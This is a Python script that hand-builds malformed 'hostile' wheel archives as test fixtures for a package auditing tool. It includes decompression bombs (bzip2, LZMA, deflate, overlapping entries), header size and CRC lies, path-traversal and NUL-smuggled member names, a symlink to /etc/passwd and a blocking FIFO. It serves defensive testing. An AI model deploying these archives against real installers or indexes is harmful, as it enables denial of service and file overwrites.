#!/usr/bin/env python3
"""Build the hostile wheels of issue #10 (archives) into a directory, in seconds.

Every case is a complete-looking wheel (``hostile-1.0`` with METADATA, WHEEL and RECORD, files
under ``hostile/``) with one thing wrong, so a reader gets past the obvious checks and meets
the attack. The zips are written by hand (not with ``zipfile``), because most attacks are lies
``zipfile`` will not write: sizes and CRCs that disagree with the data, a local header that
disagrees with the central directory, an entry count that disagrees with the directory.

Bombs are built without compressing gigabytes: the bzip2 bomb repeats one compressed block of
zeros (bzip2 blocks are independent, only the stream CRC combines them) and the deflate bomb
repeats one fully flushed chunk. ``python3 scripts/make_hostile_wheels.py DIR`` writes them
all; tests import :func:`build_all` or one ``make_*`` function.
"""

from __future__ import annotations

import argparse
import base64
import bz2
import hashlib
import lzma
import os
import struct
import sys
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

__all__ = ["CASES", "HostileMember", "build_all", "make_baseline", "write_zip"]

STORED, DEFLATED, BZIP2, LZMA = 0, 8, 12, 14
_UTF8 = 0x800
_LOCAL = struct.Struct("<4sHHHHHLLLHH")
_CENTRAL = struct.Struct("<4sHHHHHHLLLHHHHHLL")
_EOCD = struct.Struct("<4sHHHHLLH")
_ZIP64_EOCD = struct.Struct("<4sQHHLLQQQQ")
_ZIP64_LOCATOR = struct.Struct("<4sLQL")
_ELF_HEAD = b"\x7fELF\x02\x01\x01" + bytes(57)  # 64 bytes: diff, audit and split read it whole
_CHUNK = 16 << 20
DIST = "hostile"
VERSION = "1.0"
WHEEL_NAME = f"{DIST}-{VERSION}-py3-none-linux_x86_64.whl"


@dataclass
class HostileMember:
    """One zip entry as written: the payload as stored, and what the headers claim about it.

    ``size``/``crc`` are what the central directory declares; ``local_size``/``local_crc``
    (default: the same) what the local header declares; ``shared_with`` names an earlier
    entry whose local header this entry's central record points at (overlapping members).
    """

    name: str
    payload: bytes
    method: int
    size: int
    crc: int
    local_size: int | None = None
    local_crc: int | None = None
    flags: int = 0
    mode: int = 0o100644
    shared_with: str | None = None
    raw_name: bytes | None = None
    offset: int = field(default=0, repr=False)

    @classmethod
    def of(cls, name: str, data: bytes, method: int = DEFLATED) -> HostileMember:
        """An honest member holding ``data``."""
        payload = data if method == STORED else _deflate(data)
        return cls(name, payload, method, len(data), zlib.crc32(data))


def _deflate(data: bytes) -> bytes:
    comp = zlib.compressobj(6, zlib.DEFLATED, -15)
    return comp.compress(data) + comp.flush()


def _record_hash(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def _wheel_members(extra: list[HostileMember], listed: dict[str, bytes]) -> list[HostileMember]:
    """dist-info and a package around ``extra``; RECORD lists ``listed`` with real hashes."""
    dist_info = f"{DIST}-{VERSION}.dist-info"
    files = {
        f"{DIST}/__init__.py": b"# hostile test wheel\n",
        f"{dist_info}/METADATA": (
            f"Metadata-Version: 2.1\nName: {DIST}\nVersion: {VERSION}\n\n".encode()
        ),
        f"{dist_info}/WHEEL": (
            b"Wheel-Version: 1.0\nGenerator: make_hostile_wheels\nRoot-Is-Purelib: false\n"
            b"Tag: py3-none-linux_x86_64\n"
        ),
    }
    rows = [
        f"{name},{_record_hash(data)},{len(data)}" for name, data in {**files, **listed}.items()
    ]
    rows.append(f"{dist_info}/RECORD,,")
    files[f"{dist_info}/RECORD"] = ("\n".join(rows) + "\n").encode()
    return (
        [HostileMember.of(n, d) for n, d in files.items()][:1]
        + extra
        + [HostileMember.of(n, d) for n, d in list(files.items())[1:]]
    )


def write_zip(path: Path, members: list[HostileMember], *, count: int | None = None) -> Path:
    """Write ``members`` as a zip; ``count`` overrides the end record's entry count."""
    with path.open("wb") as out:
        offsets: dict[str, int] = {}
        for m in members:
            name = m.raw_name if m.raw_name is not None else m.name.encode()
            flags = m.flags | (_UTF8 if m.raw_name is None else 0)
            if m.shared_with is not None:
                m.offset = offsets[m.shared_with]
                continue
            offsets.setdefault(m.name, out.tell())
            m.offset = out.tell()
            lsize = m.size if m.local_size is None else m.local_size
            lcrc = m.crc if m.local_crc is None else m.local_crc
            csize = len(m.payload)
            out.write(
                _LOCAL.pack(
                    b"PK\x03\x04", 20, flags, m.method, 0, 0x21, lcrc, csize, lsize, len(name), 0
                )
            )
            out.write(name)
            out.write(m.payload)
        start = out.tell()
        for m in members:
            name = m.raw_name if m.raw_name is not None else m.name.encode()
            flags = m.flags | (_UTF8 if m.raw_name is None else 0)
            out.write(
                _CENTRAL.pack(
                    b"PK\x01\x02",
                    0x031E,
                    20,
                    flags,
                    m.method,
                    0,
                    0x21,
                    m.crc,
                    len(m.payload),
                    m.size,
                    len(name),
                    0,
                    0,
                    0,
                    0,
                    m.mode << 16,
                    m.offset,
                )
            )
            out.write(name)
        _end(out, start, len(members) if count is None else count)
    return path


def _end(out: object, start: int, count: int) -> None:
    """End records (ZIP64 when the count does not fit 16 bits)."""
    assert hasattr(out, "tell") and hasattr(out, "write")
    end = out.tell()
    size = end - start
    if count > 0xFFFE:
        out.write(_ZIP64_EOCD.pack(b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, start))
        out.write(_ZIP64_LOCATOR.pack(b"PK\x06\x07", 0, end, 1))
        out.write(_EOCD.pack(b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, size, start, 0))
    else:
        out.write(_EOCD.pack(b"PK\x05\x06", 0, 0, count, count, size, start, 0))


def _wheel(directory: Path, case: str, extra: list[HostileMember], **kw: int) -> Path:
    sub = directory / case
    sub.mkdir(parents=True, exist_ok=True)
    return write_zip(sub / WHEEL_NAME, _wheel_members(extra, {}), **kw)


# --- bombs -------------------------------------------------------------------------------------

_BZ_EOS = 0x177245385090
_BZ_BLOCK_ZEROS = 40_000_000  # one bzip2 block: the RLE pass packs 255 zeros into 5 bytes


def bzip2_zeros(blocks: int) -> tuple[bytes, int]:
    """A bzip2 stream of ``blocks`` × 40 MB of zeros, from one compressed block repeated."""
    one = bz2.compress(bytes(_BZ_BLOCK_ZEROS), 9)
    bits, total = int.from_bytes(one, "big"), len(one) * 8
    for pad in range(8):
        if (bits >> (pad + 32)) & ((1 << 48) - 1) == _BZ_EOS:
            break
    else:  # pragma: no cover - bzip2 always ends with its end-of-stream magic
        raise RuntimeError("bzip2 stream without end marker")
    crc = (bits >> pad) & 0xFFFFFFFF
    block_len = total - pad - 80 - 32
    block = (bits >> (total - 32 - block_len)) & ((1 << block_len) - 1)
    out, combined = int.from_bytes(b"BZh9", "big"), 0
    for _ in range(blocks):
        out = (out << block_len) | block
        combined = (((combined << 1) | (combined >> 31)) & 0xFFFFFFFF) ^ crc
    n = 32 + block_len * blocks + 80
    out = ((out << 48 | _BZ_EOS) << 32 | combined) << (-n % 8)
    return out.to_bytes((n + 7) // 8, "big"), _BZ_BLOCK_ZEROS * blocks


def deflate_zeros(size: int, head: bytes = _ELF_HEAD) -> bytes:
    """A raw deflate stream of ``head`` then zeros up to ``size`` (rounded up to 16 MiB)."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = comp.compress(head + bytes(_CHUNK - len(head))) + comp.flush(zlib.Z_FULL_FLUSH)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = comp.compress(bytes(_CHUNK)) + comp.flush(zlib.Z_FULL_FLUSH)
    return first + chunk * (max(1, -(-size // _CHUNK)) - 1) + b"\x03\x00"


def lzma_zeros(size: int) -> bytes:
    """A zip LZMA payload (version, properties, raw LZMA1 with end marker) of zeros."""
    dict_size = 1 << 20
    comp = lzma.LZMACompressor(
        lzma.FORMAT_RAW,
        filters=[{"id": lzma.FILTER_LZMA1, "preset": 0, "dict_size": dict_size}],
    )
    zeros = bytes(min(size, _CHUNK))
    parts = [b"\x09\x04", struct.pack("<HB", 5, (2 * 5 + 0) * 9 + 3), struct.pack("<L", dict_size)]
    left = size
    while left > 0:
        parts.append(comp.compress(zeros[: min(left, len(zeros))]))
        left -= len(zeros)
    parts.append(comp.flush())
    return b"".join(parts)


def make_bzip2_bomb(directory: Path, *, blocks: int = 100) -> Path:
    """A bzip2 member declaring 1 MiB that inflates to 4 GB (from a 3.6 KB payload)."""
    payload, _ = bzip2_zeros(blocks)
    bomb = HostileMember(f"{DIST}/payload.bin", payload, BZIP2, 1 << 20, 0, flags=0)
    return _wheel(directory, "bzip2_bomb", [bomb])


def make_lzma_bomb(directory: Path, *, size: int = 256 << 20) -> Path:
    """An LZMA member declaring 1 MiB that inflates to ``size`` bytes."""
    bomb = HostileMember(f"{DIST}/payload.bin", lzma_zeros(size), LZMA, 1 << 20, 0, flags=0x2)
    return _wheel(directory, "lzma_bomb", [bomb])


def make_deflate_bomb(directory: Path, *, size: int = 2 << 30) -> Path:
    """A deflate member declaring 1 KiB that inflates to ``size`` bytes (an ELF-looking head)."""
    bomb = HostileMember(f"{DIST}/libpayload.so", deflate_zeros(size), DEFLATED, 1024, 0)
    return _wheel(directory, "deflate_bomb", [bomb])


def make_deflate_bomb_declared(directory: Path, *, size: int = 2 << 30) -> Path:
    """A deflate member honestly declaring ``size`` bytes from ~1/1000 of that: a ratio
    deflate allows per member, so only a per-archive budget stops it."""
    payload = deflate_zeros(size)
    real = max(1, -(-size // _CHUNK)) * _CHUNK
    crc = zlib.crc32(_ELF_HEAD + bytes(_CHUNK - len(_ELF_HEAD)))
    zeros = bytes(_CHUNK)
    for _ in range(real // _CHUNK - 1):
        crc = zlib.crc32(zeros, crc)
    bomb = HostileMember(f"{DIST}/libpayload.so", payload, DEFLATED, real, crc)
    return _wheel(directory, "deflate_bomb_declared", [bomb])


def make_overlap_bomb(directory: Path, *, copies: int = 1000) -> Path:
    """Many central entries sharing one 16 MiB-inflating local member (overlapping data)."""
    data = _ELF_HEAD + bytes(_CHUNK - len(_ELF_HEAD))
    first = HostileMember.of(f"{DIST}/lib0.so", data)
    extra = [first] + [
        HostileMember(
            f"{DIST}/lib{i}.so",
            first.payload,
            DEFLATED,
            first.size,
            first.crc,
            shared_with=first.name,
        )
        for i in range(1, copies)
    ]
    return _wheel(directory, "overlap_bomb", extra)


# --- lies --------------------------------------------------------------------------------------


def _elf_payload() -> bytes:
    return _ELF_HEAD + os.urandom(4096)


def make_bad_crc(directory: Path) -> Path:
    """A deflate member whose CRC (in both headers) does not match its content."""
    member = HostileMember.of(f"{DIST}/libbad.so", _elf_payload())
    member.crc ^= 0x5A5A5A5A
    return _wheel(directory, "bad_crc", [member])


def make_bad_crc_stored(directory: Path) -> Path:
    """A stored member whose CRC does not match its content."""
    member = HostileMember.of(f"{DIST}/libbad.so", _elf_payload(), STORED)
    member.crc ^= 1
    return _wheel(directory, "bad_crc_stored", [member])


def make_size_lie_local(directory: Path) -> Path:
    """The local header declares another size and CRC than the central directory."""
    member = HostileMember.of(f"{DIST}/liblie.so", _elf_payload())
    member.local_size, member.local_crc = member.size * 2, member.crc ^ 1
    return _wheel(directory, "size_lie_local", [member])


def make_size_lie_short(directory: Path) -> Path:
    """The central directory declares more bytes than the deflate stream holds."""
    member = HostileMember.of(f"{DIST}/liblie.so", _elf_payload())
    member.size += 1000
    member.local_size = member.size
    return _wheel(directory, "size_lie_short", [member])


def make_truncated_stream(directory: Path) -> Path:
    """A deflate stream cut in the middle (declared sizes match what is there)."""
    member = HostileMember.of(f"{DIST}/libcut.so", _elf_payload())
    member.payload = member.payload[: len(member.payload) // 2]
    return _wheel(directory, "truncated_stream", [member])


def make_corrupt_deflate(directory: Path) -> Path:
    """A deflate member whose data is not deflate at all."""
    member = HostileMember.of(f"{DIST}/libjunk.so", _elf_payload())
    member.payload = b"\xff" * len(member.payload)
    return _wheel(directory, "corrupt_deflate", [member])


def make_truncated_archive(directory: Path) -> Path:
    """A wheel cut short: no end of central directory record."""
    path = _wheel(directory, "truncated_archive", [HostileMember.of(f"{DIST}/a.py", b"x" * 999)])
    data = path.read_bytes()
    path.write_bytes(data[: len(data) * 2 // 3])
    return path


def make_unsupported_method(directory: Path) -> Path:
    """A member compressed with deflate64 (method 9), which no wheel uses."""
    member = HostileMember.of(f"{DIST}/a.bin", b"data" * 100)
    member.method = 9
    return _wheel(directory, "unsupported_method", [member])


def make_encrypted(directory: Path) -> Path:
    """A member flagged as encrypted."""
    member = HostileMember.of(f"{DIST}/a.bin", b"data" * 100)
    member.flags = 0x1
    return _wheel(directory, "encrypted", [member])


# --- names and entries -------------------------------------------------------------------------


def _named(directory: Path, case: str, name: str) -> Path:
    return _wheel(directory, case, [HostileMember.of(name, b"print('owned')\n")])


def make_name_traversal(directory: Path) -> Path:
    return _named(directory, "name_traversal", f"{DIST}/../../evil.py")


def make_name_absolute(directory: Path) -> Path:
    return _named(directory, "name_absolute", "/tmp/evil.py")


def make_name_backslash(directory: Path) -> Path:
    return _named(directory, "name_backslash", f"{DIST}\\..\\..\\evil.py")


def make_name_drive(directory: Path) -> Path:
    return _named(directory, "name_drive", "C:/evil.py")


def make_name_nul(directory: Path) -> Path:
    return _named(directory, "name_nul", f"{DIST}/evil.py\x00.txt")


def make_name_long(directory: Path, *, length: int = 60_000) -> Path:
    """A 60,000-byte member name (the field allows 65,535)."""
    return _named(directory, "name_long", f"{DIST}/" + "a" * length)


def make_duplicate_names(directory: Path) -> Path:
    member = HostileMember.of(f"{DIST}/dup.py", b"one\n")
    return _wheel(directory, "duplicate_names", [member, HostileMember.of(member.name, b"two\n")])


def make_symlink(directory: Path) -> Path:
    member = HostileMember.of(f"{DIST}/link", b"/etc/passwd", STORED)
    member.mode = 0o120777
    return _wheel(directory, "symlink", [member])


def make_entry_count_lie(directory: Path, *, entries: int = 100_000) -> Path:
    """The end record says 5 entries; the central directory holds ``entries`` more."""
    sub = directory / "entry_count_lie"
    sub.mkdir(parents=True, exist_ok=True)
    return _huge(sub / WHEEL_NAME, entries, count=5)


def make_huge_entry_count(directory: Path, *, entries: int = 990_000) -> Path:
    """``entries`` empty stored files (the red team's 990k-entry wheel), written in ~2 s."""
    sub = directory / "huge_entry_count"
    sub.mkdir(parents=True, exist_ok=True)
    return _huge(sub / WHEEL_NAME, entries)


def _huge(path: Path, entries: int, *, count: int | None = None) -> Path:
    base = _wheel_members([], {})
    local, central = _LOCAL.pack, _CENTRAL.pack
    with path.open("wb") as out:
        offsets = []
        for m in base:
            offsets.append(out.tell())
            name = m.name.encode()
            out.write(
                local(
                    b"PK\x03\x04",
                    20,
                    _UTF8,
                    m.method,
                    0,
                    0x21,
                    m.crc,
                    len(m.payload),
                    m.size,
                    len(name),
                    0,
                )
                + name
                + m.payload
            )
        pos = out.tell()
        buf = []
        for i in range(entries):
            name = b"%x" % i
            buf.append(local(b"PK\x03\x04", 20, 0, 0, 0, 0x21, 0, 0, 0, len(name), 0) + name)
        out.write(b"".join(buf))
        start = out.tell()
        buf = []
        for m, off in zip(base, offsets, strict=True):
            name = m.name.encode()
            buf.append(
                central(
                    b"PK\x01\x02",
                    0x031E,
                    20,
                    _UTF8,
                    m.method,
                    0,
                    0x21,
                    m.crc,
                    len(m.payload),
                    m.size,
                    len(name),
                    0,
                    0,
                    0,
                    0,
                    0o100644 << 16,
                    off,
                )
                + name
            )
        for i in range(entries):
            name = b"%x" % i
            buf.append(
                central(
                    b"PK\x01\x02",
                    0x031E,
                    20,
                    0,
                    0,
                    0,
                    0x21,
                    0,
                    0,
                    0,
                    len(name),
                    0,
                    0,
                    0,
                    0,
                    0o100644 << 16,
                    pos,
                )
                + name
            )
            pos += 30 + len(name)
        out.write(b"".join(buf))
        _end(out, start, len(base) + entries if count is None else count)
    return path


def make_baseline(directory: Path) -> Path:
    """An honest ``hostile-1.0`` wheel (the other side of a ``diff``); not a hostile case."""
    member = HostileMember.of(f"{DIST}/libok.so", _ELF_HEAD + bytes(4096))
    return _wheel(directory, "baseline", [member])


# --- special files -----------------------------------------------------------------------------


def make_fifo(directory: Path) -> Path:
    """A FIFO named like a wheel: opening it for reading blocks until a writer comes."""
    sub = directory / "fifo"
    sub.mkdir(parents=True, exist_ok=True)
    path = sub / WHEEL_NAME
    if not path.exists():
        os.mkfifo(path)
    return path


CASES: dict[str, Callable[[Path], Path]] = {
    "bzip2_bomb": make_bzip2_bomb,
    "lzma_bomb": make_lzma_bomb,
    "deflate_bomb": make_deflate_bomb,
    "deflate_bomb_declared": make_deflate_bomb_declared,
    "overlap_bomb": make_overlap_bomb,
    "bad_crc": make_bad_crc,
    "bad_crc_stored": make_bad_crc_stored,
    "size_lie_local": make_size_lie_local,
    "size_lie_short": make_size_lie_short,
    "truncated_stream": make_truncated_stream,
    "corrupt_deflate": make_corrupt_deflate,
    "truncated_archive": make_truncated_archive,
    "unsupported_method": make_unsupported_method,
    "encrypted": make_encrypted,
    "name_traversal": make_name_traversal,
    "name_absolute": make_name_absolute,
    "name_backslash": make_name_backslash,
    "name_drive": make_name_drive,
    "name_nul": make_name_nul,
    "name_long": make_name_long,
    "duplicate_names": make_duplicate_names,
    "symlink": make_symlink,
    "entry_count_lie": make_entry_count_lie,
    "huge_entry_count": make_huge_entry_count,
    "fifo": make_fifo,
}
"""Every case: name -> function writing ``<dir>/<name>/hostile-1.0-…whl`` and returning it."""


def build_all(directory: Path, *, only: list[str] | None = None) -> dict[str, Path]:
    """Write every case (or those named in ``only``) under ``directory``; name -> wheel path.

    Each wheel sits in its own sub-directory named after the case, so every file keeps a
    valid wheel name and a directory of them can be handed to ``audit`` one at a time.
    """
    directory.mkdir(parents=True, exist_ok=True)
    return {name: CASES[name](directory) for name in (only or list(CASES))}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("directory", type=Path)
    parser.add_argument("--only", nargs="+", choices=sorted(CASES), help="build only these")
    args = parser.parse_args(argv)
    for name, path in build_all(args.directory, only=args.only).items():
        print(f"{name}\t{path}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
